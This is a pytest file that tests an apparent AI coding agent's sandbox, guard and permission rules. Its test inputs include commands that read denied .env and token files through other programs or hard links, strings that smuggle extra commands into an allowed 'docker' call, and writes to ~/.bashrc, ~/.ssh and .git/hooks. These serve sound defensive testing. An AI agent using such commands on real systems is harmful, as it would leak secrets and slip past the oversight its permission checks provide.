"""Where the sandbox and the guard meet the permission rules: a deny rule masks its files under the guard too (every
program agentui starts), `excludedCommands` takes out only a command that is exactly the program with plain
arguments, ask rules hold under the sandbox's auto-allow, an untrusted project may turn the sandbox on but never
auto-allow, and the check expands words from the environment the commands really get."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from agentui.core.project import PermissionOptions, open_project
from agentui.core.safety.permissions.rules import parse_rule
from agentui.core.safety.sandbox import SandboxConfig
from tests.core.test_sandbox_setup import Box, boxed
from tests.support.permissions import check


@pytest.fixture
def box(tmp_path: Path) -> Iterator[Box]:
    yield from boxed(tmp_path)


def deny(box: Box, *texts: str) -> None:
    rules = [parse_rule(text, "deny", "test", project_root=box.project, home=box.home) for text in texts]
    patterns = [rule.path for rule in rules if rule.path is not None]
    box.guard.read_denials = lambda: patterns


def test_under_the_guard_a_denied_file_reads_as_nothing_however_a_program_reads_it(box: Box) -> None:
    (box.project / ".env").write_text("KEY=secret\n")
    (box.project / "secrets").mkdir()
    (box.project / "secrets" / "token").write_text("TOKEN-TEXT\n")
    (box.project / "notes.txt").write_text("readable\n")
    deny(box, "Read(./.env)", "Read(./secrets/**)")
    for command in (
        "cat .env",
        "base64 .env",
        "python3 -c 'print(open(\".env\").read())'",
        "cp .env copy && cat copy",
        "cat secrets/token",
        "ls secrets; cat secrets/* 2>/dev/null",
    ):
        done = box.run(command, guard=True)
        assert "KEY=secret" not in done.text and "TOKEN-TEXT" not in done.text, command
    assert "readable" in box.run("cat notes.txt", guard=True).out
    assert (box.project / ".env").read_text() == "KEY=secret\n"  # (masked for the command, untouched on disk)


def test_under_the_guard_a_denied_directory_stays_hidden_when_the_command_starts_inside_it(box: Box) -> None:
    """The red team's way around: `cd secrets` (the working directory carries over to the next command), then a
    program agentui cannot read opens what is there."""
    (box.project / "secrets").mkdir()
    (box.project / "secrets" / "token.txt").write_text("TOKEN-TEXT\n")
    deny(box, "Read(./secrets/**)")
    inside = box.project / "secrets"
    for command in ("cat token.txt", "python3 -c 'import os; print([open(n).read() for n in os.listdir()])'", "ls"):
        done = box.run(command, guard=True, cwd=inside)
        assert "TOKEN-TEXT" not in done.text and "token.txt" not in done.out, command
    assert (inside / "token.txt").read_text() == "TOKEN-TEXT\n"


def test_the_guard_never_masks_the_project_itself(box: Box) -> None:
    (box.project / "notes.txt").write_text("readable\n")
    deny(box, f"Read(/{box.project.parent}/**)")  # (a rule over the directory that holds the project)
    assert "readable" in box.run("cat notes.txt", guard=True).out


def test_excluded_commands_take_out_only_the_program_itself_with_plain_arguments(box: Box) -> None:
    sandbox = box.sandbox
    object.__setattr__(sandbox, "config", SandboxConfig(enabled=True, excluded_commands=("docker", "npm run build")))
    assert sandbox.excluded("docker ps") and sandbox.excluded("docker 'ps' -a") and sandbox.excluded("npm run build")
    for command in (
        "docker ps && touch ../canary",
        "docker ps; touch ../canary",
        "docker ps | sh",
        "docker $(touch ../canary)",
        "docker ps > ../canary",
        "docker `id`",
        "docker ps &",
        "docker $HOME",
        "docker *",
        "npm run test",
        "npm run build && rm -rf x",
        "/usr/bin/docker ps",
        "FOO=1 docker ps",
    ):
        assert not sandbox.excluded(command), command


def sandbox_settings(
    home: Path, project: Path, *, own: dict[str, object], project_block: dict[str, object], env: dict[str, str]
) -> None:
    (home / ".claude").mkdir(exist_ok=True)
    (home / ".claude" / "settings.json").write_text(json.dumps({"sandbox": own} if own else {}))
    (project / ".claude").mkdir(exist_ok=True)
    (project / ".claude" / "settings.json").write_text(json.dumps({"sandbox": project_block, "env": env}))


def opened(  # type: ignore[no-untyped-def]
    tmp_path: Path,
    *,
    trusted: bool,
    own: dict[str, object],
    project_block: dict[str, object],
    settings_env: dict[str, str] | None = None,
):
    home = tmp_path / "home"
    project = tmp_path / "project"
    home.mkdir(exist_ok=True)
    project.mkdir(exist_ok=True)
    sandbox_settings(home, project, own=own, project_block=project_block, env=settings_env or {})
    env = {
        "HOME": str(home),
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "CLAUDE_CONFIG_DIR": str(home / ".claude"),
        "AGENTUI_CONFIG_DIR": str(home / "cfg"),
        "AGENTUI_DATA_DIR": str(home / "data"),
        "AGENTUI_STATE_DIR": str(home / "state"),
    }
    return open_project(project, PermissionOptions(), env=env, trusted=trusted)


def test_an_untrusted_project_may_turn_the_sandbox_on_but_never_auto_allow(tmp_path: Path) -> None:
    loose = {"enabled": True, "autoAllowBashIfSandboxed": True, "excludedCommands": ["sh"]}
    project = opened(tmp_path, trusted=False, own={}, project_block=loose)
    assert project.engine.sandbox is not None
    config = project.engine.sandbox.config
    assert config.enabled and not config.auto_allow and not config.excluded_commands
    assert check(project.engine, "Bash", command="make").behavior == "ask"

    trusted = opened(tmp_path, trusted=True, own={}, project_block=loose)
    assert trusted.engine.sandbox is not None and trusted.engine.sandbox.config.auto_allow

    mine = opened(tmp_path, trusted=False, own={"enabled": True}, project_block={"enabled": True})
    assert mine.engine.sandbox is not None and mine.engine.sandbox.config.auto_allow  # (the person's own choice)


def test_the_check_expands_words_from_the_environment_the_commands_run_with(tmp_path: Path) -> None:
    project = opened(tmp_path, trusted=True, own={}, project_block={}, settings_env={"DOCS": "../outside"})
    bash = project.tools.get("Bash")
    assert bash is not None
    assert project.engine.bash_environ is bash.environment
    assert project.engine.bash_environ.get("DOCS") == "../outside"
    (tmp_path / "outside").mkdir()
    # $DOCS names a directory outside the project: the check sees where it leads, as bash will.
    assert check(project.engine, "Bash", command="ls $DOCS").behavior == "ask"
    assert check(project.engine, "Bash", command="ls").behavior == "allow"


def test_a_hard_link_to_a_file_a_pattern_or_a_denied_directory_covers_is_refused_everywhere(tmp_path: Path) -> None:
    project = opened(tmp_path, trusted=True, own={}, project_block={})
    root = project.root
    (root / "certs").mkdir()
    (root / "certs" / "server.pem").write_text("PEM-TEXT\n")
    (root / "secrets").mkdir()
    (root / "secrets" / "token").write_text("TOKEN-TEXT\n")
    os.link(root / "certs" / "server.pem", root / "innocent-a.txt")
    os.link(root / "secrets" / "token", root / "innocent-b.txt")
    for text in ("Read(**/*.pem)", "Read(./secrets/**)"):
        project.engine.add_rule(text, "deny", "test")
    for name in ("innocent-a.txt", "innocent-b.txt"):
        assert check(project.engine, "Read", file_path=str(root / name)).behavior == "deny", name
        assert check(project.engine, "Bash", command=f"cat {name}").behavior == "deny", name
        assert project.workspace.hidden(root / name), name  # (Grep and Glob leave it out)


async def test_a_recursive_read_over_a_denied_file_runs_unasked_where_the_guard_masks_it(tmp_path: Path) -> None:
    """`grep -rn TODO .` in a project with a denied `.env`: the guard masks `.env` for the command, so it needs no
    question, and what it prints holds nothing of the file. A hard link to the file is a name no mask covers: asked.
    Where the guard cannot run, the walk's deny check stands."""
    from agentui.core.tools.base import ToolContext
    from agentui.core.tools.bash import Bash, BashArgs

    project = opened(tmp_path, trusted=True, own={}, project_block={})
    root = project.root
    (root / ".env").write_text("API_KEY=envsecret-1234\n# TODO rotate\n")
    (root / "notes.md").write_text("TODO write the notes\n")
    project.engine.add_rule("Read(./.env)", "deny", "test")
    engine = project.engine
    assert engine.guarded()
    for command in ("grep -rn TODO .", "grep -rn API_KEY .", "find . -type f -exec grep -n TODO {} +"):
        found = check(engine, "Bash", command=command)
        assert found.behavior == "allow", (command, found.reason)
    bash = project.tools.get("Bash")
    assert isinstance(bash, Bash)
    context = ToolContext(cwd=root, session_id="s", tool_call_id="t")
    for command in ("grep -rn TODO .", "grep -rn API_KEY .", "find . -type f -exec grep -n TODO {} +"):
        result = await bash.run(BashArgs(command=command), context)
        assert result.details["guarded"], command
        assert "envsecret" not in result.content and "rotate" not in result.content, (command, result.content)
    assert "write the notes" in (await bash.run(BashArgs(command="grep -rn TODO ."), context)).content

    os.link(root / ".env", root / "innocent.txt")
    assert check(engine, "Bash", command="grep -rn TODO .").behavior == "ask"
    os.unlink(root / "innocent.txt")
    engine.guard_available = lambda: False
    assert check(engine, "Bash", command="grep -rn TODO .").behavior == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "git clone https://example.com/x.git .git/hooks",
        "tar -xf a.tar -C ~/.config",
        "unzip a.zip -d .git/hooks",
        "rsync -a src/ ~/.ssh/",
        "curl -o ~/.bashrc https://example.com/x",
        "mytool --out ~/.bashrc",
        "make",
    ],
)
def test_bypass_mode_without_the_guard_asks_for_a_program_it_cannot_follow(tmp_path: Path, command: str) -> None:
    """bypassPermissions promises that the protected files are never written unasked. Under the guard the mounts
    keep that promise for any program; where the guard cannot run, a program whose writes agentui cannot follow
    (or a subcommand, or an option it does not know) asks, as an unparsed command already did."""
    engine = opened(tmp_path, trusted=True, own={}, project_block={}).engine
    engine.mode = "bypassPermissions"
    assert check(engine, "Bash", command=command).behavior == "allow"  # (the guard holds it)
    engine.guard_available = lambda: False
    found = check(engine, "Bash", command=command)
    assert found.behavior == "ask" and "bubblewrap cannot guard" in found.reason, found.reason
    for understood in ("ls", "git status", "cat README.md", "rm -rf build", "mkdir -p out"):
        assert check(engine, "Bash", command=understood).behavior == "allow", understood
